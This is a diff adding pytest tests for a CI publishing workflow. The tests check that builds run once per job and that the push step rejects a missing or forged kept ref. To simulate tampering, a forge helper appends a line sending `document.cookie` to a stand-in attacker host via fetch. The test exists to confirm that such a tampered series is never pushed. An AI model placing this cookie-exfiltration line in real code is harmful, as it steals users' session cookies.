@@ -8,12 +8,16 @@ from __future__ import annotations
 
 import json
 import shutil
+import sys
 from pathlib import Path
+
+import pytest
 
 from . import workflow_canary
 from .canary import executable
 from .gitrepo import BOT, git, with_remote
 from .publish_support import EVIL, append, holds, tampered
+from .support import ROOT
 from .workflow_run import READ_TOKEN, WRITE_TOKEN, Runner
 
 BRANCH = "codemod/app-state"
@@ -131,3 +135,132 @@ exec "{workflow_canary.FAKES / 'bun'}" "$@"
     assert layouts and all(l["reason"] in allowed for l in layouts.values()), layouts
     # the Biome ran, and was turned down
     assert any(l["reason"] == "biome changed more than the layout of the tool's output" for l in layouts.values())
+
+
+# --- one build per job (issue 30) ------------------------------------------------
+
+KEPT = "refs/mesh-codemod/publish"
+GIT_LOGGER = """#!/bin/bash
+sub=""; skip=""
+for a in "$@"; do
+  if [ -n "$skip" ]; then skip=""; continue; fi
+  case "$a" in -c|-C) skip=1 ;; -*) ;; *) sub="$a"; break ;; esac
+done
+printf '%s\\t%s\\n' "$sub" "$(tr '\\0' ' ' < /proc/$PPID/cmdline)" >> "{log}"
+exec "{git}" "$@"
+"""
+
+
+def _log_git(runner: Runner) -> Path:
+    """A git first on the jobs' PATH that notes each call's subcommand and
+    the command line of the process that made it."""
+    log = runner.tmp / "git-calls.log"
+    executable(runner.path_dir / "git", GIT_LOGGER.replace("{log}", str(log)).replace(
+        "{git}", shutil.which("git", path="/usr/local/bin:/usr/bin:/bin") or "git"))
+    return log
+
+
+def builds(log: Path) -> dict[str, int]:
+    """How many series each command built, all its processes together:
+    every build reads its base into a temporary index once (`git
+    read-tree`, deliver/build.py); `pr` is the build job's, `publish` the
+    publish job's."""
+    found = {"pr": 0, "publish": 0}
+    for line in log.read_text().splitlines():
+        sub, _, parent = line.partition("\t")
+        for command in found:
+            if sub == "read-tree" and f" -m codemods {command} " in parent:
+                found[command] += 1
+    return found
+
+
+def test_the_build_runs_once_per_job(tmp_path: Path) -> None:
+    """The build job's `pr` builds once; the publish job's check step
+    builds once and keeps its series, and the push step pushes exactly that
+    without building again."""
+    remote, _ = with_remote(tmp_path)
+    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
+    log = _log_git(runner)
+    build, publish = runner.run()
+    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
+    assert builds(log) == {"pr": 1, "publish": 1}, builds(log)
+    steps = {s.name: s for s in publish.steps}
+    assert steps["Push the branch"].exit == 0 and "not rebuilt" in steps["Push the branch"].stderr
+    workspace = tmp_path / "job-publish" / "workspace"
+    report = json.loads((publish.temp / "mesh-codemod-report.json").read_text())
+    kept = git(workspace, "rev-parse", KEPT).strip()
+    assert kept == report["tip"] == git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip()
+    assert report["push"]["pushed"] is True
+    pulls = json.loads((tmp_path / "github.json").read_text())["pulls"]
+    assert [p["number"] for p in pulls] == [1]
+
+
+FORGE = """import json, subprocess, sys
+from pathlib import Path
+sys.path.insert(0, {root!r})
+from tests.test_action_run import forge_kept
+forge_kept(Path({workspace!r}), Path({report!r}), {how!r})
+"""
+
+
+def forge_kept(workspace: Path, report_file: Path, how: str) -> None:
+    """Between the publish job's check and push steps: the kept series
+    removed, or replaced by a commit under the tool's name and trailers
+    with a line of its own, the report's tip and commits made to match
+    (its fingerprint left as it was)."""
+    from .publish_support import MODULE, commit, tool_message
+
+    if how == "missing":
+        git(workspace, "update-ref", "-d", KEPT)
+        return
+    tip = git(workspace, "rev-parse", KEPT).strip()
+    parent = git(workspace, "rev-parse", f"{tip}^").strip()
+    evil = workspace.parent / "evil"
+    git(workspace, "worktree", "add", "-q", "--detach", str(evil), tip)
+    with (evil / MODULE).open("a") as handle:
+        handle.write(f'fetch("https://{EVIL}/" + document.cookie);\n')
+    git(evil, "add", "-A")
+    tree = git(evil, "write-tree").strip()
+    parent_tree = git(workspace, "rev-parse", f"{parent}^{{tree}}").strip()
+    sha = commit(workspace, tree, [parent], tool_message(workspace, tip, parent_tree, tree))
+    git(workspace, "update-ref", KEPT, sha)
+    report = json.loads(report_file.read_text())
+    report["tip"] = sha
+    report["commits"][-1]["sha"] = sha
+    report_file.write_text(json.dumps(report))
+
+
+@pytest.mark.parametrize("how", ["missing", "forged"])
+def test_the_push_step_refuses_a_kept_series_that_is_missing_or_not_the_reports(tmp_path: Path, how: str) -> None:
+    """The ref the check step kept is gone, or holds another series than
+    its report's fingerprint (moved between the steps, by whatever ran in
+    between): the push step exits 3 and pushes nothing; nothing is rebuilt."""
+    remote, _ = with_remote(tmp_path)
+    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
+    log = _log_git(runner)
+    # the first `gh` call (the decide step, between check and push) moves the ref first
+    script = tmp_path / "forge.py"
+    script.write_text(FORGE.format(root=str(ROOT), workspace=str(tmp_path / "job-publish" / "workspace"),
+                                   report=str(tmp_path / "job-publish" / "temp" / "mesh-codemod-report.json"), how=how))
+    mark = tmp_path / "forged"
+    executable(runner.path_dir / "gh", f"""#!/bin/bash
+if [ ! -e "{mark}" ]; then touch "{mark}"; "{sys.executable}" "{script}" || exit 99; fi
+exec "{sys.executable}" "{workflow_canary.FAKES / 'gh'}" "$@"
+""")
+    build, publish = runner.run()
+    assert build.ok and mark.exists()
+    steps = {s.name: s for s in publish.steps}
+    push = steps["Push the branch"]
+    assert push.exit == 3, (push.exit, push.stderr[-800:])
+    expected = "is missing" if how == "missing" else "is not the report's"
+    assert KEPT in push.stderr and expected in push.stderr and "nothing pushed" in push.stderr, push.stderr
+    assert git(remote, "for-each-ref", "--format=%(refname)", f"refs/heads/{BRANCH}").strip() == ""
+    assert not holds_anywhere(remote, EVIL)
+    assert steps.get("Open or update the pull request") is None  # the job ended at the push
+    assert json.loads((tmp_path / "github.json").read_text())["pulls"] == []
+    assert builds(log) == {"pr": 1, "publish": 1}, builds(log)
+
+
+def holds_anywhere(remote: Path, text: str) -> bool:
+    refs = git(remote, "for-each-ref", "--format=%(refname)").split()
+    return any(text in git(remote, "log", "-p", ref) for ref in refs)
